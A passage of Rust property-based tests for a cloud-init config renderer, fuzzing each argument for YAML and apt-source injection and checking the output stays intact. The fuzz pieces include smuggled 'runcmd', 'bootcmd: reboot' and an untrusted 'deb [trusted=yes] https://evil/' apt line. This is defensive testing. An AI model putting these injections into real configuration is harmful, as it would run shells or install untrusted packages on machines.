            apt_key: Some(p.join("key.asc")),
            appliance: false,
            roots,
            intermediate_cert: inter_cert,
            intermediate_key: inter_key,
            bootstrap_expect: 3,
            jetstream_memory: Arg::JetstreamMemory.good().into(),
            jetstream_store: Arg::JetstreamStore.good().into(),
            nameservers: vec![Arg::Nameserver.good().into()],
            dns: (!nocloud).then_some(DnsApi::Digitalocean),
            dns_token: (!nocloud).then(|| p.join("dns.tok")),
            dns_api_url: (!nocloud).then(|| Arg::DnsApiUrl.good().into()),
            lb_id: (!nocloud).then(|| Arg::LbId.good().into()),
            lb_token: (!nocloud).then(|| p.join("lb.tok")),
            lb_api_url: (!nocloud).then(|| Arg::LbApiUrl.good().into()),
            lb_vpc_subnet: None,
            accounts: None,
            client_names: vec![Arg::ClientName.good().into()],
            metrics_bind: Some(Arg::MetricsBind.good().into()),
            client_advertise: Some(Arg::ClientAdvertise.good().into()),
            name: nocloud.then(|| Arg::Name.good().into()),
            private_address: nocloud.then(|| std::net::Ipv4Addr::new(10, 0, 0, 1)),
        };
        let v = value.to_owned();
        match arg {
            Arg::Region => r.region = v,
            Arg::Domain => r.domain = v,
            Arg::AptUrl => r.apt_url = Some(v),
            Arg::DnsApiUrl => r.dns_api_url = Some(v),
            Arg::LbApiUrl => r.lb_api_url = Some(v),
            Arg::LbId => r.lb_id = Some(v),
            Arg::Name => r.name = Some(v),
            Arg::Nameserver => r.nameservers = vec![v],
            Arg::JetstreamMemory => r.jetstream_memory = v,
            Arg::JetstreamStore => r.jetstream_store = v,
            Arg::ClientName => r.client_names = vec![v],
            Arg::MetricsBind => r.metrics_bind = Some(v),
            Arg::ClientAdvertise => r.client_advertise = Some(v),
        }
        if arg != Arg::ClientName {
            // The balancer's name follows the case's region and domain,
            // as the intermediate's permitted names do.
            r.client_names = vec![format!("lb.{}.{}", r.region, r.domain)];
        }
        r
    }

    /// Pieces an attacker reaches for: line breaks (YAML 1.1's too), the
    /// comment sign, quotes, YAML indicators, NUL, non-ASCII.
    fn piece() -> impl Strategy<Value = String> {
        prop_oneof![
            prop::sample::select(vec![
                "\n",
                "\r\n",
                "\r",
                "#",
                " #",
                "\"",
                "'",
                ": ",
                "- ",
                "? ",
                "{",
                "}",
                "[",
                "]",
                ",",
                "&a",
                "*a",
                "!!str",
                "|",
                ">",
                "%",
                "@",
                "`",
                "\0",
                "\t",
                " ",
                "\u{85}",
                "\u{2028}",
                "\u{feff}",
                "é",
                "🦀",
                ".",
                "-",
                "/",
                ":",
                "//",
                "https://",
                "http://",
                "file:/",
                "127.0.0.1",
                "GiB",
                "..",
                "?q",
                "\nruncmd: [[sh]]\n",
                "\nbootcmd: [[reboot]]",
                " ./\ndeb [trusted=yes] https://evil/ ./",
            ])
            .prop_map(str::to_owned),
            "[a-z0-9]{1,8}",
            any::<char>().prop_map(String::from),
        ]
    }

    fn value(arg: Arg) -> impl Strategy<Value = String> {
        prop_oneof![
            any::<String>(),
            vec(piece(), 0..8).prop_map(|v| v.concat()),
            (vec(piece(), 0..3), vec(piece(), 0..3)).prop_map(move |(a, b)| format!(
                "{}{}{}",
                a.concat(),
                arg.good(),
                b.concat()
            )),
            Just(arg.good().to_owned()),
        ]
    }

    fn case() -> impl Strategy<Value = (Arg, String)> {
        prop::sample::select(ARGS.to_vec()).prop_flat_map(|arg| (Just(arg), value(arg)))
    }

    fn paths(doc: &serde_norway::Value) -> BTreeSet<String> {
        doc["write_files"]
            .as_sequence()
            .unwrap()
            .iter()
            .map(|f| f["path"].as_str().unwrap().to_owned())
            .collect()
    }

    fn keys(v: &serde_norway::Value) -> BTreeSet<String> {
        v.as_mapping()
            .unwrap()
            .keys()
            .map(|k| k.as_str().unwrap().to_owned())
            .collect()
    }

    fn set(items: &[&str]) -> BTreeSet<String> {
        items.iter().map(|s| (*s).to_owned()).collect()
    }

    /// What an accepted run must have printed.
    fn accepted(arg: Arg, given: &str, text: &str) {
        let r = request(arg, given);
        let nocloud = arg == Arg::Name;
        // The header: three comment lines, then YAML.
        let lines: Vec<&str> = text.split('\n').collect();
        assert_eq!(lines[0], "#cloud-config");
        assert!(lines[1].starts_with("# natsmesh node of region "), "{text}");
        assert!(lines[2].starts_with("# It holds secrets"), "{text}");
        assert!(!lines[3].starts_with('#'), "{text}");
        let doc: serde_norway::Value = serde_norway::from_str(text).unwrap();
        assert_eq!(
            keys(&doc),
            set(&["write_files", "apt", "package_update", "packages"])
        );
        let mut want = vec![
            "/etc/natsmesh/natsmesh.d/10-node.toml",
            "/etc/natsmesh/roots.pem",
            "/etc/natsmesh/credentials/intermediate.crt",
            "/etc/natsmesh/credentials/intermediate.key",
        ];
        if !nocloud {
            want.extend([
                "/etc/natsmesh/credentials/dns-token",
                "/etc/natsmesh/credentials/lb-token",
            ]);
        }
        assert_eq!(paths(&doc), set(&want));
        // One apt source, one line: exactly the URL given.
        assert_eq!(keys(&doc["apt"]), set(&["sources"]));
        assert_eq!(keys(&doc["apt"]["sources"]), set(&["natsmesh.list"]));
        let source = doc["apt"]["sources"]["natsmesh.list"]["source"]
            .as_str()
            .unwrap();
        let url = r.apt_url.as_deref().unwrap();
        assert_eq!(source, format!("deb [signed-by=$KEY_FILE] {url} ./"));
        assert_eq!(source.split(' ').count(), 4, "{source:?}");
        assert!(!source.chars().any(char::is_control), "{source:?}");
        // The drop-in: exactly its tables, carrying the values unchanged.
        let dropin = doc["write_files"][0]["content"].as_str().unwrap();
        let table: toml::Table = toml::from_str(dropin).unwrap();
        let mut tables = vec!["node", "tls", "broker", "discovery", "metrics"];
        if !nocloud {
            tables.extend(["dns_publish", "load_balancer"]);
        }
        assert_eq!(table.keys().cloned().collect::<BTreeSet<_>>(), set(&tables));
        let raw: RawConfig = toml::from_str(dropin).unwrap();
        // The intermediate it carries is the case's region's: an accepted
        // case is one the droplet accepts.
        let inter = doc["write_files"]
            .as_sequence()
            .unwrap()
            .iter()
            .find(|f| f["path"].as_str() == Some("/etc/natsmesh/credentials/intermediate.crt"))
            .unwrap()["content"]
            .as_str()
            .unwrap();
        let inter = &pki::certs_from_pem("inter", inter.as_bytes()).unwrap()[0];
        let region_name = format!("{}.{}", r.region, r.domain.trim_end_matches('.'));
        assert!(
            pki::permitted("inter", inter)
                .unwrap()
                .dns_name(&region_name),
            "{region_name}"
        );
        assert_eq!(raw.node.region.as_deref(), Some(r.region.as_str()));
        assert_eq!(raw.node.domain.as_deref(), Some(r.domain.as_str()));
        assert_eq!(raw.node.name, r.name);
        assert_eq!(raw.discovery.nameservers, r.nameservers);
        assert_eq!(raw.dns_publish.api_url, r.dns_api_url);
        assert_eq!(raw.load_balancer.api_url, r.lb_api_url);
        assert_eq!(raw.load_balancer.id, r.lb_id);
        assert_eq!(raw.tls.extra_names, r.client_names);
        assert_eq!(raw.broker.client.advertise, r.client_advertise);
        let bind: natsmesh::config::bind::Bind =
            toml::Value::String(r.metrics_bind.clone().unwrap())
                .try_into()
                .unwrap();
        assert_eq!(raw.metrics.bind, bind);
        assert_eq!(
            raw.broker.jetstream.max_memory_store,
            Some(Size::parse(&r.jetstream_memory).unwrap())
        );
        assert_eq!(
            raw.broker.jetstream.max_file_store,
            Some(Size::parse(&r.jetstream_store).unwrap())
        );
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2048))]

        #[test]
        fn every_string_argument_is_refused_by_name_or_serialised_unchanged(
            (arg, given) in case()
        ) {
            match render(&request(arg, &given)) {
                Ok((text, _)) => accepted(arg, &given, &text),
                Err(e) => {
                    let said = e.to_string();
                    prop_assert_eq!(e.arg(), Some(arg.flag()), "{}", said);
                    prop_assert!(said.starts_with(arg.flag()), "{}", said);
                    prop_assert_eq!(e.exit_code(), 2);
                    // The value is quoted and escaped: one line, always.
                    prop_assert!(!said.contains('\n') && !said.contains('\r'), "{}", said);
                }
            }
        }
    }

    /// The good values are accepted (the property's accepting branch is
    /// not vacuous), and each hostile classic is refused by name.
    #[test]
    fn good_values_pass_and_classic_attacks_do_not() {
        for arg in ARGS {
            let (text, _) = render(&request(arg, arg.good())).unwrap();
            accepted(arg, arg.good(), &text);
            for bad in ["\ny", "#y\u{2028}", "\0", " x", "\u{85}"] {
                let value = format!("{}{bad}", arg.good());
                match render(&request(arg, &value)) {
                    Ok(_) => panic!("{} accepted {value:?}", arg.flag()),
                    Err(e) => assert_eq!(e.arg(), Some(arg.flag()), "{e}"),
                }
            }
        }
    }
}
